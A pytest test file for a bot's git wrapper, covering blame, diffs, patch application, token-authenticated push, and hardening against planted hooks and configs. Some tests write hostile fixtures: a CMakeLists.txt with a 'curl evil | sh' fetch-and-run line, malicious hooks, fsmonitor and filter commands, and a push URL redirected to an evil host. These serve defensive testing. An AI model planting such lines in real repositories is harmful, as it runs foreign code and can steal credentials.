"""bot.git against real git repositories in tmp_path (and a loopback HTTP remote for the token header)."""

from __future__ import annotations

import base64
import http.server
import os
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot.errors import GitError
from bot.git import DiffHunk, Git, changed_lines_from_hunks, map_line, parse_numstat_z
from tests import gitutil
from tests.fix.conftest import commit_files, make_repo

AUTHOR = "Crash Bot <crashbot@example.invalid>"


def _init(path: Path) -> Git:
    return make_repo(path)


def _commit(
    repo: Path,
    files: dict[str, str],
    message: str,
    *,
    author: str = "Dev One <dev1@example.invalid>",
    when: int = 1_700_000_000,
) -> str:
    return commit_files(repo, files, message, author=author, when=when)


@pytest.fixture
def repo(tmp_path: Path) -> Git:
    return _init(tmp_path / "repo")


def test_git_run_failure_raises_git_error_with_last_stderr_line(repo: Git) -> None:
    with pytest.raises(GitError, match=r"unknown revision|bad revision|ambiguous argument"):
        repo.run("log", "no-such-rev")


def test_git_missing_directory_raises_git_error(tmp_path: Path) -> None:
    with pytest.raises(GitError, match="does not exist"):
        Git(tmp_path / "nope", env=os.environ).head()


def test_git_ls_files_non_ascii_path_unquoted(repo: Git) -> None:
    _commit(repo.repo, {"src/game/Öbject.cpp": "x\n", "src/a b.h": "y\n"}, "init")
    assert sorted(repo.ls_files()) == ["src/a b.h", "src/game/Öbject.cpp"]


def test_git_rev_parse_known_and_unknown(repo: Git) -> None:
    sha = _commit(repo.repo, {"a.txt": "1\n"}, "init")
    assert repo.head() == sha
    assert repo.rev_parse(sha[:12]) == sha
    assert repo.rev_parse("deadbeefdead") is None
    assert repo.rev_parse("--help") is None
    assert repo.rev_parse("") is None


def test_git_blame_porcelain_reports_latest_commit_per_line(repo: Git) -> None:
    _commit(repo.repo, {"f.cpp": "a\nb\nc\n"}, "first", when=1700000000)
    second = _commit(
        repo.repo,
        {"f.cpp": "a\nB\nc\n"},
        "second: change b",
        author="Dev Two <dev2@example.invalid>",
        when=1700100000,
    )
    lines = repo.blame("f.cpp", 1, 3)
    assert [bl.line_no for bl in lines] == [1, 2, 3]
    assert [bl.text for bl in lines] == ["a", "B", "c"]
    assert lines[1].sha == second
    assert lines[1].author == "Dev Two"
    assert lines[1].author_time == 1700100000
    assert lines[1].summary == "second: change b"
    assert lines[0].summary == "first"


def test_git_blame_invalid_range_raises(repo: Git) -> None:
    _commit(repo.repo, {"f.cpp": "a\n"}, "first")
    with pytest.raises(GitError, match="invalid"):
        repo.blame("f.cpp", 3, 2)
    with pytest.raises(GitError):
        repo.blame("f.cpp", 5, 9)


def test_git_changed_lines_modification_and_insertion(repo: Git) -> None:
    a = _commit(repo.repo, {"f.cpp": "".join(f"l{i}\n" for i in range(1, 11)), "g.cpp": "g\n"}, "ten lines")
    text = "".join(f"l{i}\n" for i in range(1, 11)).replace("l3\n", "L3\n").replace("l7\n", "guard\nl7\n")
    b = _commit(repo.repo, {"f.cpp": text, "other.h": "x\n"}, "edit")
    assert repo.changed_lines("f.cpp", a, b) == {3, 6, 7}
    assert repo.changed_lines("g.cpp", a, b) == set()
    assert sorted(repo.diff_names(a, b)) == ["f.cpp", "other.h"]


def test_map_line_shifts_after_insertions_and_drops_rewritten_lines() -> None:
    hunks = [DiffHunk(3, 1, 3, 1), DiffHunk(6, 0, 7, 2)]
    assert map_line(hunks, 1) == 1
    assert map_line(hunks, 3) is None
    assert map_line(hunks, 6) == 6
    assert map_line(hunks, 7) == 9
    assert changed_lines_from_hunks([DiffHunk(0, 0, 1, 3)]) == {1}


def test_git_apply_check_then_apply_and_commit_all(repo: Git) -> None:
    _commit(repo.repo, {"src/f.cpp": "int f() {\n    return 1;\n}\n"}, "init")
    diff = (
        "diff --git a/src/f.cpp b/src/f.cpp\n--- a/src/f.cpp\n+++ b/src/f.cpp\n"
        "@@ -1,3 +1,3 @@\n int f() {\n-    return 1;\n+    return 2;\n }\n"
    )
    repo.apply_check(diff)
    repo.apply(diff)
    sha = repo.commit_all("Fix f\n\nBody line.", AUTHOR)
    assert sha == repo.head()
    assert (repo.repo / "src/f.cpp").read_text() == "int f() {\n    return 2;\n}\n"
    (entry,) = repo.log("HEAD~1..HEAD")
    assert entry.subject == "Fix f"
    assert entry.author == "Crash Bot"


def test_git_apply_check_conflicting_diff_raises_with_reason(repo: Git) -> None:
    _commit(repo.repo, {"src/f.cpp": "int f() {\n    return 1;\n}\n"}, "init")
    diff = (
        "--- a/src/f.cpp\n+++ b/src/f.cpp\n@@ -1,3 +1,3 @@\n int f() {\n-    return 7;\n+    return 2;\n }\n"
    )
    with pytest.raises(GitError, match=r"patch does not apply|patch failed"):
        repo.apply_check(diff)


def test_git_commit_all_bad_author_raises(repo: Git) -> None:
    _commit(repo.repo, {"a": "1\n"}, "init")
    with pytest.raises(GitError, match="Name <email>"):
        repo.commit_all("x", "no email here")


def test_git_branch_and_push_to_bare_remote(repo: Git, tmp_path: Path) -> None:
    _commit(repo.repo, {"a": "1\n"}, "init")
    bare = tmp_path / "remote.git"
    gitutil.git(tmp_path, "init", "-q", "--bare", str(bare))
    repo.branch("crashfix/abc123")
    assert repo.current_branch() == "crashfix/abc123"
    (repo.repo / "a").write_text("2\n")
    sha = repo.commit_all("change", AUTHOR)
    repo.push(str(bare), "HEAD:refs/heads/crashfix/abc123")
    assert gitutil.git(bare, "rev-parse", "crashfix/abc123").strip() == sha
    # rewriting the branch needs force
    repo.branch("crashfix/abc123", start="HEAD~1")
    (repo.repo / "a").write_text("3\n")
    repo.commit_all("change again", AUTHOR)
    with pytest.raises(GitError):
        repo.push(str(bare), "HEAD:refs/heads/crashfix/abc123")
    repo.push(str(bare), "HEAD:refs/heads/crashfix/abc123", force=True)
    assert gitutil.git(bare, "rev-parse", "crashfix/abc123").strip() == repo.head()


def test_git_force_push_with_expected_sha_refuses_a_branch_that_moved(repo: Git, tmp_path: Path) -> None:
    """A person who pushes between crashbot's check and its push keeps their commit."""
    _commit(repo.repo, {"a": "1\n"}, "init")
    bare = tmp_path / "remote.git"
    gitutil.git(tmp_path, "init", "-q", "--bare", str(bare))
    ref = "HEAD:refs/heads/crashfix/abc123"
    repo.push(str(bare), ref, force=True, expect="")  # "" = must not exist yet
    seen = gitutil.git(bare, "rev-parse", "crashfix/abc123").strip()
    (repo.repo / "a").write_text("2\n")
    repo.commit_all("second", AUTHOR)
    with pytest.raises(GitError):
        repo.push(str(bare), ref, force=True, expect="")  # it exists now
    human = tmp_path / "human"
    gitutil.git(tmp_path, "clone", "-q", str(bare), str(human))
    gitutil.git(human, "checkout", "-q", "crashfix/abc123")
    moved = _commit(human, {"a": "human\n"}, "a person's fix")
    gitutil.git(human, "push", "-q", "origin", "crashfix/abc123")
    (repo.repo / "a").write_text("bot\n")
    repo.commit_all("crashbot's rerun", AUTHOR)
    with pytest.raises(GitError):
        repo.push(str(bare), ref, force=True, expect=seen)
    assert gitutil.git(bare, "rev-parse", "crashfix/abc123").strip() == moved
    repo.push(str(bare), ref, force=True, expect=moved)
    assert gitutil.git(bare, "rev-parse", "crashfix/abc123").strip() == repo.head()


def test_git_diff_worktree_includes_new_files_and_reset_hard_discards(repo: Git) -> None:
    base = _commit(repo.repo, {"a.txt": "1\n"}, "init")
    (repo.repo / "a.txt").write_text("2\n")
    (repo.repo / "new.txt").write_text("n\n")
    diff = repo.diff_worktree(base)
    assert "+++ b/new.txt" in diff and "+2" in diff
    repo.reset_hard(base)
    assert (repo.repo / "a.txt").read_text() == "1\n"
    assert not (repo.repo / "new.txt").exists()


class _RecordingHandler(http.server.BaseHTTPRequestHandler):
    seen: list[str | None]

    def do_GET(self) -> None:
        self.seen.append(self.headers.get("Authorization"))
        self.send_response(403)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def recording_server() -> Iterator[tuple[str, list[str | None]]]:
    seen: list[str | None] = []
    handler = type("H", (_RecordingHandler,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/owner/repo.git", seen
    finally:
        server.shutdown()
        server.server_close()


def test_git_push_token_sent_as_header_never_written_or_echoed(
    tmp_path: Path, recording_server: tuple[str, list[str | None]]
) -> None:
    url, seen = recording_server
    path = tmp_path / "repo"
    _init(path)
    token = "ghs_supersecret_token_value"
    git = Git(path, env={"PUSH_TOKEN": token, "PATH": os.environ.get("PATH", ""), "HOME": str(tmp_path)})
    _commit(path, {"a": "1\n"}, "init")
    with pytest.raises(GitError) as err:
        git.push(url, "HEAD:refs/heads/x", token_env="PUSH_TOKEN")
    expected = "basic " + base64.b64encode(f"x-access-token:{token}".encode()).decode()
    assert seen and seen[0] == expected
    assert token not in str(err.value)
    assert token not in (path / ".git" / "config").read_text()


def test_git_push_missing_token_env_raises_naming_variable(repo: Git) -> None:
    _commit(repo.repo, {"a": "1\n"}, "init")
    with pytest.raises(GitError, match="NOPE_TOKEN"):
        repo.push("origin", "HEAD", token_env="NOPE_TOKEN")


def test_parse_numstat_z_plain_and_rename_entries() -> None:
    text = "1\t1\tsrc/a.cpp\x000\t0\t\x00src/old.cpp\x00src/new.cpp\x00-\t-\tsrc/x.bin\x00"
    assert parse_numstat_z(text) == ["src/a.cpp", "src/old.cpp", "src/new.cpp", "src/x.bin"]


def test_git_run_never_runs_hooks_or_fsmonitor_planted_in_the_repository(tmp_path: Path) -> None:
    """crashbot's git calls carry its tokens in the environment: a hook or an fsmonitor command
    written into .git (by an agent editing the checkout) must not run with them."""
    git = make_repo(tmp_path / "repo")
    commit_files(git.repo, {"a.txt": "a\n"}, "init")
    marker = tmp_path / "ran.txt"
    hook = git.repo / ".git" / "hooks" / "post-checkout"
    hook.write_text(f"#!/bin/sh\necho hook >> '{marker}'\n")
    hook.chmod(0o755)
    gitutil.git(git.repo, "config", "core.fsmonitor", f"echo fsmonitor >> '{marker}'; false")
    git.run("checkout", "--quiet", "-B", "other", "HEAD", "--")
    git.run("status", "--porcelain")
    assert not marker.exists(), marker.read_text()


# -- issue 11: crashbot's git runs nothing a checkout planted, and commits the validated patch only ------

PATCH = (
    "diff --git a/src/f.cpp b/src/f.cpp\n--- a/src/f.cpp\n+++ b/src/f.cpp\n"
    "@@ -1,3 +1,3 @@\n int f() {\n-    return 1;\n+    return 2;\n }\n"
)


def test_git_commit_patch_commits_the_validated_patch_not_what_the_build_wrote(repo: Git) -> None:
    """A test step wrote a CMakeLists.txt with execute_process(curl | sh) and touched another file:
    the commit holds the validated diff only, and both stay behind as working-tree leftovers."""
    _commit(repo.repo, {"src/f.cpp": "int f() {\n    return 1;\n}\n", "src/g.cpp": "g\n"}, "init")
    repo.apply(PATCH)
    (repo.repo / "CMakeLists.txt").write_text('execute_process(COMMAND sh -c "curl evil | sh")\n')
    (repo.repo / "src/g.cpp").write_text("changed by the test step\n")

    sha = repo.commit_patch(PATCH, ["src/f.cpp"], "Fix f", AUTHOR)

    assert repo.diff_names(f"{sha}~1", sha) == ["src/f.cpp"]
    assert repo.show(sha, "CMakeLists.txt") is None
    assert repo.show(sha, "src/g.cpp") == "g\n"


def test_git_stage_patch_refuses_when_the_staged_paths_differ_from_the_validated_ones(repo: Git) -> None:
    _commit(repo.repo, {"src/f.cpp": "int f() {\n    return 1;\n}\n"}, "init")
    head = repo.head()
    with pytest.raises(GitError, match="not the validated"):
        repo.commit_patch(PATCH, ["src/other.cpp"], "Fix f", AUTHOR)
    assert repo.head() == head
    assert repo.run("diff", "--cached", "--name-only") == ""


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("filter.evil.clean", "touch {marker}"),
        ("filter.evil.smudge", "touch {marker}"),
        ("diff.evil.textconv", "touch {marker}"),
        ("core.sshCommand", "touch {marker}"),
        ("include.path", "{marker}.cfg"),
        ("credential.helper", "!touch {marker}"),
        ("url.https://evil.invalid/.insteadOf", "https://github.com/"),
        ("remote.origin.pushurl", "https://evil.invalid/x.git"),
    ],
)
def test_git_refuses_a_checkout_whose_config_runs_commands_or_redirects_the_push(
    tmp_path: Path, key: str, value: str
) -> None:
    """Build code (unsandboxed) or an agent could write .git/config plus .gitattributes: crashbot's
    git, holding the push token, refuses to run in that checkout at all."""
    git = make_repo(tmp_path / "repo")
    commit_files(git.repo, {"a.txt": "a\n"}, "init")
    marker = tmp_path / "ran"
    (git.repo / ".gitattributes").write_text("* filter=evil diff=evil\n")
    gitutil.git(git.repo, "config", key, value.format(marker=marker))
    (git.repo / "a.txt").write_text("changed\n")
    with pytest.raises(GitError, match=key.split(".", maxsplit=1)[0]):
        git.run("add", "--all")
    with pytest.raises(GitError):
        git.diff_worktree()
    assert not marker.exists()


def test_git_ignores_the_runner_s_global_and_system_config(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A runner account's ~/.gitconfig (a filter, an alias, a credential helper) is not crashbot's."""
    home = tmp_path / "home"
    home.mkdir()
    marker = tmp_path / "ran"
    (home / ".gitconfig").write_text(
        f'[filter "evil"]\n\tclean = touch {marker}\n[core]\n\tattributesFile = {home}/attrs\n'
    )
    (home / "attrs").write_text("* filter=evil\n")
    git = make_repo(tmp_path / "repo")
    commit_files(git.repo, {"a.txt": "a\n"}, "init")
    (git.repo / "a.txt").write_text("changed\n")
    hardened = Git(git.repo, env={**os.environ, "HOME": str(home), "XDG_CONFIG_HOME": str(home)})
    hardened.run("add", "--all")
    assert not marker.exists()


def test_git_is_ancestor(repo: Git) -> None:
    first = _commit(repo.repo, {"a": "1\n"}, "one")
    second = _commit(repo.repo, {"a": "2\n"}, "two")
    assert repo.is_ancestor(first, second) and repo.is_ancestor(second, second)
    assert not repo.is_ancestor(second, first)
    assert not repo.is_ancestor("--help", second)
